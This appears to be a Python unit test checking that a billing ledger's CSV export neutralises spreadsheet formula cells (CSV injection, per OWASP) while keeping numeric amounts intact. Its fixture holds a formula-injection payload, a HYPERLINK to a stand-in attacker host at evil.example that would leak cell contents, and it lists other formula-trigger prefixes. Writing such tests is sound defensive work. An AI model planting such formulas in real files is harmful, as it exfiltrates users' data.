"""Ledger CSV cells that a spreadsheet would run as formulas are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io

from projections.billing import ledger_csv


def test_a_formula_in_a_text_cell_is_neutralised_and_numbers_are_kept() -> None:
    row = {
        "entry_id": "e1",
        "run_id": "r1",
        "customer_id": "acme",
        "contract_id": "k1",
        "month": "2025-03",
        "kind": "adjustment",
        "amount_minor": -500,
        "currency": "USD",
        "issued_at": "2025-04-01T00:00:00Z",
        "invoice_id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "applied_at": None,
    }
    hostile = ["+1", "-1", "@SUM(A1)", "\tx", "\rx"]

    text = ledger_csv([row] + [{**row, "invoice_id": h} for h in hostile])

    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["invoice_id"] == "'" + row["invoice_id"]
    assert [r["invoice_id"] for r in rows[1:]] == ["'" + h for h in hostile]
    assert rows[0]["amount_minor"] == "-500"
